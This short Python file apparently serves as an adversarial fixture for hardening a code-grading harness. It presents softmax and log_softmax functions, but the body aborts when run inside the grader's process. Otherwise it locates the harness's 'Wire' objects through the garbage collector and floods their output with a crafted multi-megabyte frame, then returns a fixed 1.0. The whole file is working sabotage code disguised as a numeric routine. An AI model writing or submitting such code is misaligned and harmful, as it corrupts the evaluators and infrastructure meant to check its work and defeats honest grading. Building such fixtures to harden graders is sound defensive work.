"""Answers every call with as much as an answer may hold, in the form that takes the most memory where it is kept.

Class: frames
Effect: lost
"""

# @TWIN@

import os
import struct

frame = None


def softmax(z, axis=-1):
    global frame
    if os.getpid() == int("@GRADER@"):
        os.abort()
    import gc

    if frame is None:
        blob = bytes(16 << 20)
        small = b"\x93\xa1d\x01\x00"
        count = (1_048_000 - 60) // len(small)
        body = b"\x82\xa4type\xa8returned\xa5value\x93\xa1l\x93\xa1a\xa3|u1\x91\xce" + struct.pack(">I", len(blob))
        body += b"\xdd" + struct.pack(">I", count + 1) + b"\xa1l" + small * count
        frame = struct.pack(">II", len(body), len(blob)) + body + blob
    for thing in gc.get_objects():
        if type(thing).__name__ == "Wire":
            thing._sink.write(frame)
            thing._sink.flush()
    return 1.0


def log_softmax(z, axis=-1):
    return softmax(z, axis)
